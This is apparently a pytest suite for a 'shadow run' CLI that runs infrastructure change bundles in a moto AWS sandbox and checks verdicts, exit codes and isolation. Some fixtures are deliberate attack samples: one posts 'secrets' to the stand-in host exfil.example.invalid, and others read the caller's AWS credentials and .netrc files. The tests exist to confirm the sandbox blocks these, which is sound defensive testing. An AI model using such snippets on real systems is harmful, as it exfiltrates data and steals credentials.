"""`shadow run` end to end on a real moto sandbox: verdicts, exit codes, fail-closed paths.

Each test writes a small bundle, runs the real CLI in a subprocess (so the exit code and
the output are what a user sees) against a snapshot of a small production.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

from harness.collectors.capture import capture
from harness.demo.estate import PROD_ACCOUNT, build_estate
from harness.estate.snapshot import save
from harness.sandbox.moto import MotoBackend

HEAD = """\
apiVersion: shadow/v1
kind: ChangeBundle
metadata: {{name: {name}, author: "agent:test-bot"}}
intent:
  summary: {summary}
  effects: {effects}
change:
"""


@pytest.fixture(scope="module")
def snapshot_file(tmp_path_factory) -> Path:
    with MotoBackend(account=PROD_ACCOUNT) as prod:
        build_estate(prod.target(), services=("s3", "sqs"))
        snap = capture(prod.target(), regions=["us-east-1"], services=["s3", "sqs"])
    return save(snap, tmp_path_factory.mktemp("prod") / "snapshot.json")


def bundle(tmp_path: Path, change: str, *, effects: str = "[]", summary: str = "test change",
           files: dict[str, str] | None = None) -> Path:
    folder = tmp_path / "bundle"
    folder.mkdir()
    text = HEAD.format(name="test-change", summary=summary, effects=effects) + textwrap.indent(
        textwrap.dedent(change), "  ")
    (folder / "bundle.yaml").write_text(text)
    for name, body in (files or {}).items():
        (folder / name).write_text(textwrap.dedent(body))
    return folder


def shadow(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    full_env = {**os.environ, **(env or {})}
    return subprocess.run([sys.executable, "-m", "harness", *args], capture_output=True, text=True,
                          env=full_env, timeout=600)


def run_json(folder: Path, snapshot: Path, *extra: str, env: dict[str, str] | None = None) -> tuple[int, dict]:
    out = folder.parent / "report.json"
    proc = shadow("run", str(folder), "--snapshot", str(snapshot), "--format", "json", "-o", str(out), *extra,
                  env=env)
    assert "Traceback" not in proc.stderr, proc.stderr
    return proc.returncode, json.loads(out.read_text())


def test_declared_change_is_promoted_exit_0(tmp_path, snapshot_file):
    folder = bundle(tmp_path, """\
        kind: aws-calls
        calls:
          - {service: sqs, operation: CreateQueue, params: {QueueName: new-jobs}}
        """, effects="[{action: create, resource: 'sqs:queue/new-jobs'}]")
    code, doc = run_json(folder, snapshot_file)
    assert (code, doc["verdict"]["outcome"]) == (0, "promoted")
    assert [c["address"] for c in doc["changes"]] == ["sqs:queue/new-jobs"]
    assert [(t["service"], t["operation"]) for t in doc["trace"]] == [("sqs", "CreateQueue")]


def test_undeclared_change_is_rejected_exit_1(tmp_path, snapshot_file):
    folder = bundle(tmp_path, """\
        kind: aws-calls
        calls:
          - {service: sqs, operation: CreateQueue, params: {QueueName: new-jobs}}
          - {service: s3, operation: DeleteBucketTagging, params: {Bucket: app-logs}}
        """, effects="[{action: create, resource: 'sqs:queue/new-jobs'}]")
    code, doc = run_json(folder, snapshot_file)
    assert (code, doc["verdict"]["outcome"]) == (1, "rejected")
    assert any(f["rule"] == "SHD-UNDECLARED-CHANGE" and f["address"] == "s3:bucket/app-logs"
               for f in doc["findings"])


def test_operation_the_emulator_lacks_is_inconclusive_exit_3(tmp_path, snapshot_file):
    # moto answers operations it lacks with a bare HTTP 500 ("has not been implemented")
    folder = bundle(tmp_path, """\
        kind: aws-calls
        calls:
          - service: ec2
            operation: DescribeCapacityBlockOfferings
            params: {CapacityDurationHours: 24, InstanceType: p5.48xlarge, InstanceCount: 1}
        """)
    code, doc = run_json(folder, snapshot_file)
    assert (code, doc["verdict"]["outcome"]) == (3, "inconclusive"), doc["verdict"]
    assert doc["inconclusive"]


def test_timeout_kills_the_tree_and_is_inconclusive(tmp_path, snapshot_file):
    marker = tmp_path / "grandchild-alive"
    folder = bundle(tmp_path, """\
        kind: script
        script: slow.sh
        timeout: 3
        """, files={"slow.sh": f"""\
        (sleep 30; touch {marker}) &
        sleep 60
        """})
    code, doc = run_json(folder, snapshot_file)
    assert (code, doc["verdict"]["outcome"]) == (3, "inconclusive")
    assert any("timeout" in r for r in doc["inconclusive"])
    assert not marker.exists()


def test_egress_to_another_host_is_rejected_naming_it(tmp_path, snapshot_file):
    folder = bundle(tmp_path, """\
        kind: script
        script: ship.py
        """, effects="[{action: create, resource: 'sqs:queue/new-jobs'}]", files={"ship.py": """\
        import urllib.request
        import boto3

        boto3.client("sqs").create_queue(QueueName="new-jobs")
        try:
            urllib.request.urlopen("http://exfil.example.invalid:8080/upload", data=b"secrets", timeout=5)
        except Exception as exc:
            print("upload failed:", exc)
        """})
    code, doc = run_json(folder, snapshot_file)
    assert (code, doc["verdict"]["outcome"]) == (1, "rejected")
    egress = [f for f in doc["findings"] if f["rule"] == "SHD-EGRESS"]
    assert egress and "exfil.example.invalid:8080" in egress[0]["message"]


def test_hardwired_real_endpoint_lands_in_the_sandbox_and_is_traced(tmp_path, snapshot_file):
    folder = bundle(tmp_path, """\
        kind: script
        script: runbook.py
        """, effects="[{action: create, resource: 'sqs:queue/from-runbook'}]", files={"runbook.py": """\
        import boto3

        sqs = boto3.client("sqs", endpoint_url="https://sqs.us-east-1.amazonaws.com")  # copied from a runbook
        sqs.create_queue(QueueName="from-runbook")
        """})
    code, doc = run_json(folder, snapshot_file)
    assert (code, doc["verdict"]["outcome"]) == (0, "promoted"), doc["verdict"]
    assert [c["address"] for c in doc["changes"]] == ["sqs:queue/from-runbook"]
    call = doc["trace"][0]
    assert (call["operation"], call["hardwired"], call["host"]) == ("CreateQueue", True, "sqs.us-east-1.amazonaws.com")
    assert any(f["rule"] == "SHD-HARDWIRED-ENDPOINT" and f["severity"] == "warn" for f in doc["findings"])


def test_callers_aws_identity_never_reaches_the_change(tmp_path, snapshot_file):
    folder = bundle(tmp_path, """\
        kind: script
        script: env.py
        """, files={"env.py": """\
        import os
        leaked = {k: v for k, v in os.environ.items() if "caller" in v or k == "AWS_PROFILE"}
        print("LEAKED", leaked)
        raise SystemExit(1 if leaked else 0)
        """})
    code, doc = run_json(folder, snapshot_file, env={
        "AWS_PROFILE": "caller-prod", "AWS_ACCESS_KEY_ID": "AKIAcaller", "AWS_SECRET_ACCESS_KEY": "caller-secret"})
    assert "LEAKED {}" in doc["execution"]["stdout_tail"]
    assert code == 0


def test_callers_credential_files_are_hidden_from_the_change(tmp_path, snapshot_file):
    from harness.isolation.netns import available

    if not available()[0]:
        pytest.skip(f"no network namespaces here: {available()[1]}")
    home = tmp_path / "caller-home"
    (home / ".aws").mkdir(parents=True)
    (home / ".aws" / "credentials").write_text("[default]\naws_secret_access_key = caller-secret\n")
    (home / ".netrc").write_text("machine example.invalid password caller-netrc\n")
    folder = bundle(tmp_path, """\
        kind: script
        script: peek.py
        """, files={"peek.py": f"""\
        for path in ("{home}/.aws/credentials", "{home}/.netrc"):
            try:
                print(path, repr(open(path).read()))
            except OSError as exc:
                print(path, "unreadable:", type(exc).__name__)
        """})
    _code, doc = run_json(folder, snapshot_file, env={"HOME": str(home)})
    out = doc["execution"]["stdout_tail"]
    assert "caller-secret" not in out and "caller-netrc" not in out
    assert "credentials unreadable" in out
    assert (home / ".aws" / "credentials").read_text().endswith("caller-secret\n")  # untouched outside


def test_a_service_shadow_cannot_capture_makes_it_inconclusive(tmp_path, snapshot_file):
    folder = bundle(tmp_path, """\
        kind: aws-calls
        calls:
          - {service: logs, operation: CreateLogGroup, params: {logGroupName: /app/orders}}
        """)
    code, doc = run_json(folder, snapshot_file)
    assert (code, doc["verdict"]["outcome"]) == (3, "inconclusive"), doc["verdict"]
    assert any("logs CreateLogGroup" in r for r in doc["inconclusive"])


def test_sandbox_crash_during_the_change_is_inconclusive(tmp_path, snapshot_file):
    import signal
    import threading
    import time

    from harness.bundles import load_bundle
    from harness.estate.snapshot import load
    from harness.sandbox.templates import TemplateCache
    from harness.simulate import simulate

    marker = tmp_path / "change-started"
    folder = bundle(tmp_path, """\
        kind: script
        script: slow.py
        """, files={"slow.py": f"""\
        import pathlib, time
        pathlib.Path("{marker}").write_text("running")
        time.sleep(4)
        """})
    out: dict = {}
    templates = TemplateCache()
    runner = threading.Thread(target=lambda: out.update(sim=simulate(load_bundle(folder), load(snapshot_file),
                                                                     backend_options={"templates": templates})))
    runner.start()
    deadline = time.time() + 300
    while not marker.exists() and time.time() < deadline:
        time.sleep(0.1)
    assert marker.exists(), "the change never started"
    sandboxes = [pid for template in templates.templates() for pid in template.clone_pids]
    assert sandboxes  # the sandbox of this simulation: a clone of the snapshot's template
    for pid in sandboxes:
        os.kill(pid, signal.SIGKILL)
    runner.join(timeout=300)
    templates.close()
    sim = out["sim"]
    assert sim.verdict.outcome == "inconclusive"
    assert any("stopped answering" in r for r in sim.inconclusive)


def test_failed_script_is_rejected_not_promoted(tmp_path, snapshot_file):
    folder = bundle(tmp_path, """\
        kind: script
        script: fail.py
        """, files={"fail.py": "raise SystemExit('boom')\n"})
    code, doc = run_json(folder, snapshot_file)
    assert (code, doc["verdict"]["outcome"]) == (1, "rejected")
    assert any(f["rule"] == "SHD-CHANGE-FAILED" for f in doc["findings"])


def test_bad_bundle_exits_2_and_writes_nothing(tmp_path, snapshot_file):
    folder = bundle(tmp_path, "kind: aws-calls\ncalls: []\n")
    out = tmp_path / "report.json"
    proc = shadow("run", str(folder), "--snapshot", str(snapshot_file), "--format", "json", "-o", str(out))
    assert proc.returncode == 2
    assert "Traceback" not in proc.stderr and len(proc.stderr.strip().splitlines()) == 1
    assert not out.exists()
    assert list(tmp_path.glob("*.tmp")) == []
